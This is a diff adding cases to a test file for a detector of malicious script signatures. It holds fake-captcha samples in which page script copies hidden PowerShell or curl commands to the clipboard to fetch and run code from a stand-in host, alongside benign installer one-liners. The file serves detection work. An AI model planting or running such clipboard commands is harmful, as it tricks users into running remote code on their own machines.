@@ -73,6 +73,11 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       "box.value = 'powershell is a shell'; document.execCommand('copy')",
     ],
     [
+      'a command that a captcha puts into the clipboard',
+      `navigator.clipboard.writeText('powershell -c "irm https://x.example/a | iex" # I am not a robot')`,
+      `navigator.clipboard.writeText('powershell -c "irm bun.sh/install.ps1 | iex"')`,
+    ],
+    [
       'an address that is spelt by character codes',
       `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
       `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
@@ -87,6 +92,26 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
   it('each match their script, and none that only looks similar', () => {
     const found = (script: string) => matchingSignatures(script).map(({ name }) => name);
     for (const [name, does, looksSo] of samples) assert.deepEqual([found(does), found(looksSo)], [[name], []], name);
+  });
+
+  it('match a concealed command, and no command of an installer', () => {
+    const copied = (command: string) => matchingSignatures(`navigator.clipboard.writeText(\`${command}\`)`).length > 0;
+    for (const concealed of [
+      'powershell -w hidden -c "irm https://x.example/a | iex"',
+      'powershell -nop -enc SQBFAFgA',
+      `cmd /c "curl https://x.example/a | sh # verification ID: 123"`,
+      '& ([scriptblock]::Create((irm https://x.example/a))) # powershell, captcha verification',
+    ])
+      assert.ok(copied(concealed), concealed);
+    for (const installer of [
+      'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
+      'powershell iex (irm https://community.example/install.ps1)',
+      'powershell iex (new-object net.webclient).downloadstring("https://get.scoop.example")',
+      '& ([scriptblock]::Create((irm "https://tool.example/"))) # in powershell',
+      'curl -fsSL https://bun.sh/install | bash',
+      'curl -LsSf https://astral.sh/uv/install.sh | sh',
+    ])
+      assert.ok(!copied(installer), installer);
   });
 
   it('are all tested here, and have a source each', () => {
